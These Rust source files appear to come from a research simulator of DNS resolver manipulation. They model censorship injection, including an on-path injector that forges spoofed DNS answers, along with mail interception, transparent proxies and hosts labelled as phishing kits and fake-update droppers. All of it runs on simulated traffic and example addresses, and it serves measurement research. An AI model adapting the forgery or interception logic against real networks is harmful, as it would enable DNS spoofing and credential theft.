            Arc::new(["facebook.example".to_string()].into_iter().collect());
        let b = ResolverBehavior::GfwPoisoned {
            censored: censored.clone(),
            escapes_gfw: false,
        };
        let forged = b.answer(&ctx(&u, "facebook.example")).primary;
        let Answer::Ips { ips, .. } = &forged else {
            panic!()
        };
        assert_ne!(ips[0], ip("198.51.100.7"), "must be forged");
        // Deterministic per salt+domain.
        assert_eq!(b.answer(&ctx(&u, "facebook.example")).primary, forged);
        // Escaping resolver answers honestly.
        let esc = ResolverBehavior::GfwPoisoned {
            censored,
            escapes_gfw: true,
        };
        assert_eq!(
            esc.answer(&ctx(&u, "facebook.example")).primary,
            Answer::Ips {
                ips: vec![ip("198.51.100.7")],
                ttl: 300
            }
        );
    }

    #[test]
    fn nx_monetizer_only_rewrites_nx() {
        let u = universe();
        let b = ResolverBehavior::NxMonetizer {
            search_ips: vec![ip("203.0.113.200")],
        };
        assert_eq!(
            b.answer(&ctx(&u, "doesnotexist.example")).primary,
            Answer::Ips {
                ips: vec![ip("203.0.113.200")],
                ttl: 300
            }
        );
        assert_eq!(
            b.answer(&ctx(&u, "facebook.example")).primary,
            Answer::Ips {
                ips: vec![ip("198.51.100.7")],
                ttl: 300
            }
        );
    }

    #[test]
    fn static_self_and_lan() {
        let u = universe();
        assert_eq!(
            ResolverBehavior::StaticIp { ip: ip("1.1.1.1") }
                .answer(&ctx(&u, "facebook.example"))
                .primary,
            Answer::Ips {
                ips: vec![ip("1.1.1.1")],
                ttl: 3600
            }
        );
        assert_eq!(
            ResolverBehavior::SelfIp
                .answer(&ctx(&u, "anything.example"))
                .primary,
            Answer::Ips {
                ips: vec![ip("5.5.5.5")],
                ttl: 3600
            }
        );
        assert_eq!(
            ResolverBehavior::LanRedirect {
                ip: ip("192.168.1.1")
            }
            .answer(&ctx(&u, "facebook.example"))
            .primary,
            Answer::Ips {
                ips: vec![ip("192.168.1.1")],
                ttl: 60
            }
        );
    }

    #[test]
    fn error_behaviours() {
        let u = universe();
        let c = ctx(&u, "facebook.example");
        assert_eq!(
            ResolverBehavior::RefusedAll.answer(&c).primary,
            Answer::Refused
        );
        assert_eq!(
            ResolverBehavior::ServFailAll.answer(&c).primary,
            Answer::ServFail
        );
        assert_eq!(ResolverBehavior::EmptyAll.answer(&c).primary, Answer::Empty);
        assert_eq!(ResolverBehavior::Dead.answer(&c).primary, Answer::Silent);
        assert!(matches!(
            ResolverBehavior::NsOnly {
                ns_host: "ns.x".into()
            }
            .answer(&c)
            .primary,
            Answer::NsOnly { .. }
        ));
    }

    #[test]
    fn mail_intercept_targets_mail_hosts_only() {
        let u = universe();
        let b = ResolverBehavior::MailIntercept {
            mail_ips: vec![ip("203.0.113.25")],
        };
        assert_eq!(
            b.answer(&ctx(&u, "smtp.gmail.example")).primary,
            Answer::Ips {
                ips: vec![ip("203.0.113.25")],
                ttl: 300
            }
        );
        assert_eq!(
            b.answer(&ctx(&u, "facebook.example")).primary,
            Answer::Ips {
                ips: vec![ip("198.51.100.7")],
                ttl: 300
            }
        );
    }

    #[test]
    fn proxy_all_covers_everything() {
        let u = universe();
        let b = ResolverBehavior::ProxyAll {
            proxy_ips: vec![ip("203.0.113.180")],
        };
        for q in ["facebook.example", "smtp.gmail.example", "whatever.example"] {
            assert_eq!(
                b.answer(&ctx(&u, q)).primary,
                Answer::Ips {
                    ips: vec![ip("203.0.113.180")],
                    ttl: 120
                },
                "{q}"
            );
        }
    }

    #[test]
    fn port_rewriter_delegates() {
        let u = universe();
        let b = ResolverBehavior::PortRewriter {
            inner: Box::new(ResolverBehavior::Honest),
        };
        assert!(b.rewrites_port());
        assert_eq!(
            b.answer(&ctx(&u, "facebook.example")).primary,
            Answer::Ips {
                ips: vec![ip("198.51.100.7")],
                ttl: 300
            }
        );
    }

    #[test]
    fn forged_ip_outside_reserved_space() {
        for salt in 0..200u64 {
            let f = forged_ip(salt, "facebook.example");
            assert!(!geodb::is_reserved(f), "{f}");
        }
    }
}
