//! The authoritative DNS fabric: which domains exist, which IPs serve
//! them, and the TLD infrastructure.

use geodb::Rir;
use serde::{Deserialize, Serialize};
use std::collections::HashMap;
use std::net::Ipv4Addr;

/// The paper's 13 domain categories (Section 3.2) plus the ground-truth
/// domain operated by the measurement team.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
pub enum DomainCategory {
    /// Advertisement providers.
    Ads,
    /// Adult content.
    Adult,
    /// Alexa Top 20.
    Alexa,
    /// AV vendors and update servers.
    Antivirus,
    /// Banking / payment sites.
    Banking,
    /// Dating sites.
    Dating,
    /// File sharing.
    Filesharing,
    /// Online betting.
    Gambling,
    /// Blacklisted malware domains.
    Malware,
    /// Mail hostnames (IMAP/POP3/SMTP).
    Mx,
    /// Nonexistent / typo domains.
    Nx,
    /// User-tracking services.
    Tracking,
    /// Update servers, agencies, OAuth, individual sites.
    Misc,
    /// The measurement team's own domain.
    GroundTruth,
}

impl DomainCategory {
    /// All categories, in Table 5's column order (GT sits between
    /// Gambling and Malware there; we expose paper order for reports).
    pub const ALL: [DomainCategory; 14] = [
        DomainCategory::Ads,
        DomainCategory::Adult,
        DomainCategory::Alexa,
        DomainCategory::Antivirus,
        DomainCategory::Banking,
        DomainCategory::Dating,
        DomainCategory::Filesharing,
        DomainCategory::Gambling,
        DomainCategory::GroundTruth,
        DomainCategory::Malware,
        DomainCategory::Misc,
        DomainCategory::Mx,
        DomainCategory::Nx,
        DomainCategory::Tracking,
    ];

    /// Short label used in report tables.
    pub fn label(self) -> &'static str {
        match self {
            DomainCategory::Ads => "Ads",
            DomainCategory::Adult => "Adult",
            DomainCategory::Alexa => "Alexa",
            DomainCategory::Antivirus => "Antivirus",
            DomainCategory::Banking => "Banking",
            DomainCategory::Dating => "Dating",
            DomainCategory::Filesharing => "Filesharing",
            DomainCategory::Gambling => "Gambling",
            DomainCategory::GroundTruth => "GroundTr.",
            DomainCategory::Malware => "Malware",
            DomainCategory::Misc => "Misc.",
            DomainCategory::Mx => "MX",
            DomainCategory::Nx => "NX",
            DomainCategory::Tracking => "Tracking",
        }
    }
}

/// How a domain's legitimate A records are produced.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub enum DomainKind {
    /// A fixed set of addresses (single-homed or small multi-homed).
    Fixed(Vec<Ipv4Addr>),
    /// A CDN-served domain: the answer depends on the client's region,
    /// and each region has several edge addresses that rotate.
    Cdn {
        /// Edge pools keyed by region.
        pools: Vec<(Rir, Vec<Ipv4Addr>)>,
    },
    /// The domain does not exist.
    NonExistent,
}

/// One domain in the universe.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct DomainRecord {
    /// Lower-case FQDN without trailing dot.
    pub name: String,
    /// Catalog category.
    pub category: DomainCategory,
    /// How its A records are produced.
    pub kind: DomainKind,
    /// Answer TTL in seconds.
    pub ttl: u32,
    /// Whether the domain serves mail (MX category hostnames).
    pub is_mail_host: bool,
}

/// Result of a legitimate (hierarchy-following) resolution.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Resolution {
    /// Answer records.
    Ips {
        /// Resolved addresses.
        ips: Vec<Ipv4Addr>,
        /// Answer TTL.
        ttl: u32,
    },
    /// NXDOMAIN.
    NxDomain,
}

/// A top-level domain with its authoritative NS host (cache-snooping
/// targets, Sec. 2.6).
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct TldInfo {
    /// E.g. `"com"` or `"co.uk"`.
    pub name: String,
    /// The NS record target, e.g. `"a.nic.com"`.
    pub ns_host: String,
    /// NS record TTL in seconds — deliberately in the minutes-to-hours
    /// range so a 36-hour snooping window observes expirations.
    pub ttl: u32,
}

/// The authoritative DNS fabric shared by all honest hosts.
#[derive(Debug, Clone, Default, Serialize, Deserialize)]
pub struct DnsUniverse {
    domains: HashMap<String, DomainRecord>,
    /// Wildcard zones: any subdomain of `suffix` resolves to these IPs.
    /// Used for the scan zone (`*.scan.gwild.example` → scanner AuthNS).
    wildcards: Vec<(String, Vec<Ipv4Addr>, u32)>,
    tlds: Vec<TldInfo>,
    /// DNSSEC-signed domains. Deliberately sparse: the paper (Sec. 5)
    /// cites <0.6% deployment in 2015.
    signed: std::collections::BTreeSet<String>,
}

impl DnsUniverse {
    /// An empty fabric.
    pub fn new() -> Self {
        Self::default()
    }

    /// Register a domain. Replaces any existing record of the same name.
    pub fn add_domain(&mut self, record: DomainRecord) {
        self.domains.insert(record.name.clone(), record);
    }

    /// Register a wildcard zone: `*.suffix` (and `suffix` itself)
    /// resolves to `ips`.
    pub fn add_wildcard(&mut self, suffix: &str, ips: Vec<Ipv4Addr>, ttl: u32) {
        self.wildcards.push((suffix.to_ascii_lowercase(), ips, ttl));
    }

    /// Register the TLD set for cache snooping.
    pub fn set_tlds(&mut self, tlds: Vec<TldInfo>) {
        self.tlds = tlds;
    }

    /// The snooping TLD set.
    pub fn tlds(&self) -> &[TldInfo] {
        &self.tlds
    }

    /// Mark a domain as DNSSEC-signed.
    pub fn sign_domain(&mut self, name: &str) {
        self.signed.insert(name.to_ascii_lowercase());
    }

    /// Whether a domain's zone is DNSSEC-signed.
    pub fn is_signed(&self, name: &str) -> bool {
        self.signed.contains(&name.to_ascii_lowercase())
    }

    /// Look up the record for an exact domain name.
    pub fn record(&self, name: &str) -> Option<&DomainRecord> {
        self.domains.get(&name.to_ascii_lowercase())
    }

    /// All registered domains.
    pub fn domains(&self) -> impl Iterator<Item = &DomainRecord> {
        self.domains.values()
    }

    /// Domains of one category.
    pub fn domains_in(&self, category: DomainCategory) -> Vec<&DomainRecord> {
        let mut v: Vec<&DomainRecord> = self
            .domains
            .values()
            .filter(|d| d.category == category)
            .collect();
        v.sort_by(|a, b| a.name.cmp(&b.name));
        v
    }

    /// Perform a *correct* recursive resolution as a resolver in
    /// `region` would: follow the hierarchy, get the region's CDN edge
    /// set where applicable. `salt` varies edge rotation (e.g. the
    /// resolver's identity), mirroring how repeated CDN lookups return
    /// different subsets of a pool.
    pub fn resolve(&self, qname: &str, region: Rir, salt: u64) -> Resolution {
        let name = qname.to_ascii_lowercase();
        if let Some(rec) = self.domains.get(&name) {
            return match &rec.kind {
                DomainKind::Fixed(ips) => Resolution::Ips {
                    ips: ips.clone(),
                    ttl: rec.ttl,
                },
                DomainKind::Cdn { pools } => {
                    let pool = pools
                        .iter()
                        .find(|(r, _)| *r == region)
                        .or_else(|| pools.first());
                    match pool {
                        Some((_, ips)) if !ips.is_empty() => {
                            // Rotate: pick two consecutive edges by salt.
                            let n = ips.len();
                            let start = (salt as usize) % n;
                            let mut out = vec![ips[start]];
                            if n > 1 {
                                out.push(ips[(start + 1) % n]);
                            }
                            Resolution::Ips {
                                ips: out,
                                ttl: rec.ttl,
                            }
                        }
                        _ => Resolution::NxDomain,
                    }
                }
                DomainKind::NonExistent => Resolution::NxDomain,
            };
        }
        // Wildcard zones.
        for (suffix, ips, ttl) in &self.wildcards {
            if name == *suffix || name.ends_with(&format!(".{suffix}")) {
                return Resolution::Ips {
                    ips: ips.clone(),
                    ttl: *ttl,
                };
            }
        }
        Resolution::NxDomain
    }

    /// Every legitimate IP a domain may resolve to, across all regions —
    /// what a perfectly informed oracle would whitelist. Used by tests
    /// to validate the prefilter, *not* by the prefilter itself (the
    /// pipeline must discover legitimacy the way the paper does).
    pub fn all_legitimate_ips(&self, name: &str) -> Vec<Ipv4Addr> {
        match self.domains.get(&name.to_ascii_lowercase()) {
            Some(rec) => match &rec.kind {
                DomainKind::Fixed(ips) => ips.clone(),
                DomainKind::Cdn { pools } => {
                    let mut all: Vec<Ipv4Addr> = pools
                        .iter()
                        .flat_map(|(_, ips)| ips.iter().copied())
                        .collect();
                    all.sort();
                    all.dedup();
                    all
                }
                DomainKind::NonExistent => Vec::new(),
            },
            None => Vec::new(),
        }
    }

    /// Number of registered domains.
    pub fn len(&self) -> usize {
        self.domains.len()
    }

    /// Whether no domains are registered.
    pub fn is_empty(&self) -> bool {
        self.domains.is_empty()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn ip(s: &str) -> Ipv4Addr {
        s.parse().unwrap()
    }

    fn universe() -> DnsUniverse {
        let mut u = DnsUniverse::new();
        u.add_domain(DomainRecord {
            name: "bank.example".into(),
            category: DomainCategory::Banking,
            kind: DomainKind::Fixed(vec![ip("198.51.100.10")]),
            ttl: 300,
            is_mail_host: false,
        });
        u.add_domain(DomainRecord {
            name: "cdn.example".into(),
            category: DomainCategory::Alexa,
            kind: DomainKind::Cdn {
                pools: vec![
                    (
                        Rir::Arin,
                        vec![ip("203.0.113.1"), ip("203.0.113.2"), ip("203.0.113.3")],
                    ),
                    (Rir::Apnic, vec![ip("203.0.113.129"), ip("203.0.113.130")]),
                ],
            },
            ttl: 60,
            is_mail_host: false,
        });
        u.add_domain(DomainRecord {
            name: "gone.example".into(),
            category: DomainCategory::Nx,
            kind: DomainKind::NonExistent,
            ttl: 0,
            is_mail_host: false,
        });
        u.add_wildcard("scan.gwild.example", vec![ip("192.0.2.53")], 5);
        u
    }

    #[test]
    fn fixed_resolution() {
        let u = universe();
        assert_eq!(
            u.resolve("bank.example", Rir::Ripe, 0),
            Resolution::Ips {
                ips: vec![ip("198.51.100.10")],
                ttl: 300
            }
        );
        assert_eq!(
            u.resolve("BANK.Example", Rir::Ripe, 0),
            u.resolve("bank.example", Rir::Ripe, 0)
        );
    }

    #[test]
    fn cdn_resolution_is_region_dependent() {
        let u = universe();
        let arin = u.resolve("cdn.example", Rir::Arin, 0);
        let apnic = u.resolve("cdn.example", Rir::Apnic, 0);
        assert_ne!(arin, apnic);
        let Resolution::Ips { ips, .. } = arin else {
            panic!()
        };
        assert!(ips
            .iter()
            .all(|i| u32::from(*i) < u32::from(ip("203.0.113.128"))));
    }

    #[test]
    fn cdn_rotation_by_salt() {
        let u = universe();
        let a = u.resolve("cdn.example", Rir::Arin, 0);
        let b = u.resolve("cdn.example", Rir::Arin, 1);
        assert_ne!(a, b, "salt rotates edges");
        // But all are in the legitimate set.
        let legit = u.all_legitimate_ips("cdn.example");
        for r in [a, b] {
            let Resolution::Ips { ips, .. } = r else {
                panic!()
            };
            assert!(ips.iter().all(|i| legit.contains(i)));
        }
    }

    #[test]
    fn unknown_region_falls_back_to_first_pool() {
        let u = universe();
        let r = u.resolve("cdn.example", Rir::Afrinic, 0);
        assert!(matches!(r, Resolution::Ips { .. }));
    }

    #[test]
    fn nxdomain_cases() {
        let u = universe();
        assert_eq!(
            u.resolve("gone.example", Rir::Ripe, 0),
            Resolution::NxDomain
        );
        assert_eq!(
            u.resolve("never-registered.example", Rir::Ripe, 0),
            Resolution::NxDomain
        );
    }

    #[test]
    fn wildcard_zone_matches_subdomains_only() {
        let u = universe();
        for q in [
            "scan.gwild.example",
            "abc123.scan.gwild.example",
            "r4nd.c0a80001.scan.gwild.example",
        ] {
            assert!(
                matches!(u.resolve(q, Rir::Ripe, 0), Resolution::Ips { .. }),
                "{q}"
            );
        }
        assert_eq!(
            u.resolve("notscan.gwild.example", Rir::Ripe, 0),
            Resolution::NxDomain
        );
        // Suffix match must be label-aligned.
        assert_eq!(
            u.resolve("xscan.gwild.example", Rir::Ripe, 0),
            Resolution::NxDomain
        );
    }

    #[test]
    fn category_listing_sorted() {
        let u = universe();
        let banking = u.domains_in(DomainCategory::Banking);
        assert_eq!(banking.len(), 1);
        assert_eq!(banking[0].name, "bank.example");
    }

    #[test]
    fn oracle_ips_cover_all_pools() {
        let u = universe();
        assert_eq!(u.all_legitimate_ips("cdn.example").len(), 5);
        assert!(u.all_legitimate_ips("gone.example").is_empty());
        assert!(u.all_legitimate_ips("nope.example").is_empty());
    }
}
