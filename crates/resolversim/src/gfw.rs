//! The Great Firewall model: an on-path observer that injects forged
//! DNS answers for censored domains (Section 4.2).
//!
//! The paper's evidence: (i) 83.6% of unexpected responses for
//! Facebook/Twitter/YouTube come from Chinese resolvers returning
//! "randomly-chosen" IPs; (ii) 2.4% of Chinese resolvers produced *two*
//! answers — forged first, legitimate milliseconds later; (iii) sending
//! queries to unused Chinese address space still triggers answers for
//! censored names. All three behaviours fall out of this injector plus
//! the `GfwPoisoned` resolver behaviour.

use crate::behavior::forged_ip;
use dnswire::{Message, MessageBuilder, Rcode, RecordClass, RecordType};
use netsim::{Datagram, PathObserver, SimTime};
use std::collections::BTreeSet;
use std::net::Ipv4Addr;
use std::sync::Arc;

/// On-path DNS injector for a country's address space.
pub struct GreatFirewall {
    /// Inclusive IPv4 ranges considered "inside" (queries *to* these
    /// ranges are observed).
    ranges: Vec<(u32, u32)>,
    /// Censored domain names (lower-case, exact match).
    censored: Arc<BTreeSet<String>>,
    /// Injection delay in milliseconds — small enough to beat any
    /// end-to-end path.
    pub injection_delay_ms: u64,
    /// Number of forged answers injected (observability).
    pub injected: u64,
}

impl GreatFirewall {
    /// Build an injector over `ranges` censoring `censored` names.
    pub fn new(ranges: Vec<(Ipv4Addr, Ipv4Addr)>, censored: Arc<BTreeSet<String>>) -> Self {
        GreatFirewall {
            ranges: ranges
                .into_iter()
                .map(|(a, b)| (u32::from(a), u32::from(b)))
                .collect(),
            censored,
            injection_delay_ms: 2,
            injected: 0,
        }
    }

    fn inside(&self, ip: Ipv4Addr) -> bool {
        let v = u32::from(ip);
        self.ranges.iter().any(|&(lo, hi)| (lo..=hi).contains(&v))
    }
}

impl PathObserver for GreatFirewall {
    fn on_transit(&mut self, _now: SimTime, dgram: &Datagram) -> Vec<(u64, Datagram)> {
        // Only queries headed *into* the censored space, port 53.
        if dgram.dst_port != 53 || !self.inside(dgram.dst_ip) || self.inside(dgram.src_ip) {
            return Vec::new();
        }
        let Ok(query) = Message::decode(&dgram.payload) else {
            return Vec::new();
        };
        if query.header.response || query.questions.is_empty() {
            return Vec::new();
        }
        let q = &query.questions[0];
        if q.qclass != RecordClass::In || q.qtype != RecordType::A {
            return Vec::new();
        }
        let qname = q.qname.to_ascii_lower();
        if !self.censored.contains(&qname) {
            return Vec::new();
        }
        // Forge an answer that looks like it came from the queried host.
        // The forged IP is a function of the *query name and destination*
        // so repeated probes are stable but different vantage points see
        // different addresses — matching the paper's "arbitrary IPs".
        let forged = forged_ip(u32::from(dgram.dst_ip) as u64, &qname);
        let resp = MessageBuilder::response_to(&query, Rcode::NoError)
            .answer_a(q.qname.clone(), 300, forged)
            .build();
        self.injected += 1;
        vec![(self.injection_delay_ms, dgram.reply_with(resp.encode()))]
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use dnswire::Name;

    fn ip(s: &str) -> Ipv4Addr {
        s.parse().unwrap()
    }

    fn gfw() -> GreatFirewall {
        GreatFirewall::new(
            vec![(ip("110.0.0.0"), ip("110.255.255.255"))],
            Arc::new(["facebook.example".to_string()].into_iter().collect()),
        )
    }

    fn query_dgram(qname: &str, dst: &str) -> Datagram {
        let q = MessageBuilder::query(0x99, Name::parse(qname).unwrap(), RecordType::A).build();
        Datagram::new(ip("100.0.0.1"), 40000, ip(dst), 53, q.encode())
    }

    #[test]
    fn injects_for_censored_domain_into_range() {
        let mut g = gfw();
        let out = g.on_transit(SimTime::ZERO, &query_dgram("facebook.example", "110.1.2.3"));
        assert_eq!(out.len(), 1);
        let resp = Message::decode(&out[0].1.payload).unwrap();
        assert_eq!(resp.header.id, 0x99);
        assert_eq!(resp.answer_ips().len(), 1);
        assert_eq!(out[0].1.src_ip, ip("110.1.2.3"), "spoofed as the target");
        assert_eq!(g.injected, 1);
    }

    #[test]
    fn injects_even_for_unbound_address_space() {
        // The paper's probe: random Chinese ranges answer for censored
        // names. The injector fires regardless of whether anything is
        // bound at the destination.
        let mut g = gfw();
        let out = g.on_transit(
            SimTime::ZERO,
            &query_dgram("facebook.example", "110.200.0.77"),
        );
        assert_eq!(out.len(), 1);
    }

    #[test]
    fn ignores_uncensored_and_outside_traffic() {
        let mut g = gfw();
        assert!(g
            .on_transit(SimTime::ZERO, &query_dgram("harmless.example", "110.1.2.3"))
            .is_empty());
        assert!(g
            .on_transit(SimTime::ZERO, &query_dgram("facebook.example", "9.1.2.3"))
            .is_empty());
    }

    #[test]
    fn ignores_intra_country_and_response_traffic() {
        let mut g = gfw();
        // src inside the range: not border-crossing.
        let mut d = query_dgram("facebook.example", "110.1.2.3");
        d.src_ip = ip("110.9.9.9");
        assert!(g.on_transit(SimTime::ZERO, &d).is_empty());
        // responses are not matched
        let q = MessageBuilder::query(1, Name::parse("facebook.example").unwrap(), RecordType::A)
            .build();
        let r = MessageBuilder::response_to(&q, Rcode::NoError).build();
        let d2 = Datagram::new(ip("100.0.0.1"), 40000, ip("110.1.2.3"), 53, r.encode());
        assert!(g.on_transit(SimTime::ZERO, &d2).is_empty());
    }

    #[test]
    fn forged_ip_stable_per_destination() {
        let mut g = gfw();
        let a = g.on_transit(SimTime::ZERO, &query_dgram("facebook.example", "110.1.2.3"));
        let b = g.on_transit(SimTime::ZERO, &query_dgram("facebook.example", "110.1.2.3"));
        let c = g.on_transit(SimTime::ZERO, &query_dgram("facebook.example", "110.1.2.4"));
        let ip_of =
            |v: &Vec<(u64, Datagram)>| Message::decode(&v[0].1.payload).unwrap().answer_ips()[0];
        assert_eq!(ip_of(&a), ip_of(&b));
        assert_ne!(ip_of(&a), ip_of(&c));
    }
}
