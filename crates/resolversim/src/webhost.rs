//! [`WebHost`]: web and mail endpoints of the simulated Internet.
//!
//! These hosts are what the returned A records point at — both the
//! legitimate content (category sites, CDN edges) and every redirect
//! target the paper catalogs (censorship landing pages, parking,
//! phishing kits, transparent proxies, fake-update droppers, …).

use crate::universe::{DnsUniverse, DomainCategory};
use htmlsim::gen::{self, PageCtx, SiteCategory};
use netsim::{
    Datagram, Host, HostCtx, HttpRequest, HttpResponse, SimTime, TcpRequest, TcpResponse,
    TlsCertificate,
};
use std::net::Ipv4Addr;
use std::sync::Arc;

/// Deterministic per-domain seed so every host serving `domain` emits
/// identical content (CDN edges, proxies, and the trusted ground-truth
/// fetch must agree byte-for-byte).
pub fn domain_seed(domain: &str) -> u64 {
    let mut h = 0xcbf29ce484222325u64;
    for b in domain.to_ascii_lowercase().bytes() {
        h ^= b as u64;
        h = h.wrapping_mul(0x100000001b3);
    }
    h
}

/// Map the catalog category to a content theme.
fn site_category(cat: DomainCategory) -> SiteCategory {
    match cat {
        DomainCategory::Ads => SiteCategory::Ads,
        DomainCategory::Adult => SiteCategory::Adult,
        DomainCategory::Alexa => SiteCategory::Alexa,
        DomainCategory::Antivirus => SiteCategory::Antivirus,
        DomainCategory::Banking => SiteCategory::Banking,
        DomainCategory::Dating => SiteCategory::Dating,
        DomainCategory::Filesharing => SiteCategory::Filesharing,
        DomainCategory::Gambling => SiteCategory::Gambling,
        DomainCategory::Malware => SiteCategory::Malware,
        DomainCategory::Tracking => SiteCategory::Tracking,
        DomainCategory::Mx | DomainCategory::Nx | DomainCategory::Misc => SiteCategory::Misc,
        DomainCategory::GroundTruth => SiteCategory::GroundTruth,
    }
}

/// The canonical legitimate content of `domain`. Pure function of the
/// domain (see [`domain_seed`]); used by legit sites, CDN edges, and
/// transparent proxies alike.
pub fn legit_content(domain: &str, category: DomainCategory) -> String {
    let ctx = PageCtx::new(domain, domain_seed(domain));
    gen::legit_site(site_category(category), &ctx)
}

/// Mail banners for a provider, keyed by protocol port.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct MailBanners {
    /// SMTP greeting (port 25).
    pub smtp: String,
    /// IMAP greeting (port 143).
    pub imap: String,
    /// POP3 greeting (port 110).
    pub pop3: String,
}

impl MailBanners {
    /// The legitimate banners of a mail provider.
    pub fn provider(name: &str) -> Self {
        MailBanners {
            smtp: format!("220 smtp.{name} ESMTP ready"),
            imap: format!("* OK [CAPABILITY IMAP4rev1] {name} IMAP server ready"),
            pop3: format!("+OK {name} POP3 server ready"),
        }
    }

    fn for_port(&self, port: u16) -> Option<&str> {
        match port {
            25 => Some(&self.smtp),
            143 => Some(&self.imap),
            110 => Some(&self.pop3),
            _ => None,
        }
    }
}

/// What a web/mail host is.
#[derive(Debug, Clone)]
pub enum WebRole {
    /// Origin server of a catalog domain. Serves `domain`'s canonical
    /// content with a valid certificate.
    LegitSite {
        /// The domain it serves.
        domain: String,
        /// Content theme.
        category: DomainCategory,
    },
    /// CDN edge: serves any domain in `hosted` for the right Host
    /// header. With SNI it presents a per-domain certificate; without
    /// SNI it presents the provider's default certificate whose common
    /// name the prefilter whitelists (Sec. 3.4).
    CdnEdge {
        /// CDN provider name.
        provider: String,
        /// Domains hosted on this provider.
        hosted: Arc<Vec<(String, DomainCategory)>>,
    },
    /// A CDN content server that is currently disabled — TCP open but no
    /// content (the paper suspects outdated CDN IPs, Sec. 4.2).
    DisabledEdge,
    /// State censorship landing page.
    CensorLanding {
        /// Country display name.
        country: String,
        /// The authority named in the legal text.
        authority: String,
    },
    /// ISP / parental-control / AV blocking page.
    BlockPage {
        /// Protection provider name.
        operator: String,
        /// Stated blocking reason.
        reason: String,
    },
    /// Domain parking / reseller lander.
    Parking {
        /// Parking provider name.
        provider: String,
    },
    /// Search page; `mimicry` embeds injected ad banners.
    Search {
        /// Engine display name.
        engine: String,
        /// Whether injected ad banners are embedded.
        mimicry: bool,
    },
    /// Captive portal login.
    CaptivePortal {
        /// Network operator name.
        operator: String,
    },
    /// Webmail login page.
    Webmail,
    /// An HTTP-error-only host.
    ErrorHost {
        /// The status it always answers.
        status: u16,
    },
    /// Phishing kit for `target` (e.g. the 46-image PayPal clone).
    PhishKit {
        /// The impersonated domain.
        target: String,
        /// Serve HTTPS with a self-signed certificate (3 of the 16
        /// PayPal phish IPs did).
        tls_self_signed: bool,
        /// Structural bank-clone instead of the image kit.
        bank_clone: bool,
    },
    /// Transparent proxy: serves the original content of *any* requested
    /// domain. `tls` proxies forward valid certificates; HTTP-only
    /// proxies (the risky 10,179-resolver group) refuse TLS.
    TransparentProxy {
        /// Used to fetch the original content.
        universe: Arc<DnsUniverse>,
        /// Whether the proxy forwards TLS with valid certificates.
        tls: bool,
    },
    /// Ad-manipulation front-end for ad-provider domains.
    AdManipulator {
        /// Manipulation class.
        mode: AdMode,
    },
    /// Mail server (legitimate provider or interception relay).
    MailServer {
        /// Greeting banners per protocol.
        banners: MailBanners,
    },
    /// Fake Flash/Java update page serving a malware dropper.
    FakeUpdate {
        /// Impersonated product ("Flash", "Java").
        product: String,
    },
}

/// How an ad front-end manipulates traffic (Sec. 4.3).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum AdMode {
    /// Injects banners into the page.
    InjectBanner,
    /// Injects suspicious JavaScript.
    InjectScript,
    /// Replaces ads with empty placeholders.
    Blank,
    /// Serves a search-page mimicry with embedded ads.
    FakeSearch,
}

/// A web/mail host with one role.
pub struct WebHost {
    /// What the host serves.
    pub role: WebRole,
    /// Per-host seed (noise in generated pages).
    pub seed: u64,
}

impl WebHost {
    /// A host with `role` and noise seed `seed`.
    pub fn new(role: WebRole, seed: u64) -> Self {
        WebHost { role, seed }
    }

    fn serve_http(&self, req: &HttpRequest) -> Option<HttpResponse> {
        let host = req.host.to_ascii_lowercase();
        let ctx = PageCtx::new(&host, self.seed);
        let resp = match &self.role {
            WebRole::LegitSite { domain, category } => {
                if host == *domain {
                    let mut r = HttpResponse::ok(legit_content(domain, *category));
                    if req.tls {
                        r = r.with_certificate(TlsCertificate::valid_for(domain));
                    }
                    r
                } else {
                    HttpResponse::error(404, gen::http_error(404, &ctx))
                }
            }
            WebRole::CdnEdge { provider, hosted } => {
                let known = hosted.iter().find(|(d, _)| *d == host);
                match known {
                    Some((domain, category)) => {
                        let mut r = HttpResponse::ok(legit_content(domain, *category));
                        if req.tls {
                            let cert = match &req.sni {
                                Some(sni) if sni.eq_ignore_ascii_case(domain) => {
                                    TlsCertificate::valid_for(domain)
                                }
                                Some(_) => TlsCertificate::valid_for(domain),
                                None => {
                                    TlsCertificate::valid_for(&format!("edge.{provider}.example"))
                                }
                            };
                            r = r.with_certificate(cert);
                        }
                        r
                    }
                    None => {
                        let mut r = HttpResponse::error(404, gen::http_error(404, &ctx));
                        if req.tls {
                            r = r.with_certificate(TlsCertificate::valid_for(&format!(
                                "edge.{provider}.example"
                            )));
                        }
                        r
                    }
                }
            }
            WebRole::DisabledEdge => return None,
            WebRole::CensorLanding { country, authority } => {
                HttpResponse::ok(gen::censorship_landing(country, authority, &ctx))
            }
            WebRole::BlockPage { operator, reason } => {
                HttpResponse::ok(gen::blocking_page(operator, reason, &ctx))
            }
            WebRole::Parking { provider } => HttpResponse::ok(gen::parking_page(provider, &ctx)),
            WebRole::Search { engine, mimicry } => {
                HttpResponse::ok(gen::search_page(engine, *mimicry, &ctx))
            }
            WebRole::CaptivePortal { operator } => {
                // Real portals bounce the first request to their login
                // URL; the acquisition client must follow (Sec. 3.5).
                if req.path == "/" {
                    HttpResponse::redirect("/portal/login")
                } else {
                    HttpResponse::ok(gen::captive_portal(operator, &ctx))
                }
            }
            WebRole::Webmail => HttpResponse::ok(gen::webmail_login(&ctx)),
            WebRole::ErrorHost { status } => {
                HttpResponse::error(*status, gen::http_error(*status, &ctx))
            }
            WebRole::PhishKit {
                target,
                tls_self_signed,
                bank_clone,
            } => {
                if req.tls && !tls_self_signed {
                    return None; // no HTTPS listener
                }
                let body = if *bank_clone {
                    gen::phishing_bank_clone(&PageCtx::new(target, domain_seed(target)))
                } else {
                    gen::phishing_kit_images(target.split('.').next().unwrap_or(target), &ctx)
                };
                let mut r = HttpResponse::ok(body);
                if req.tls {
                    r = r.with_certificate(TlsCertificate::self_signed(target));
                }
                r
            }
            WebRole::TransparentProxy { universe, tls } => {
                if req.tls && !tls {
                    return None; // HTTP-only proxy refuses TLS
                }
                let body = match universe.record(&host) {
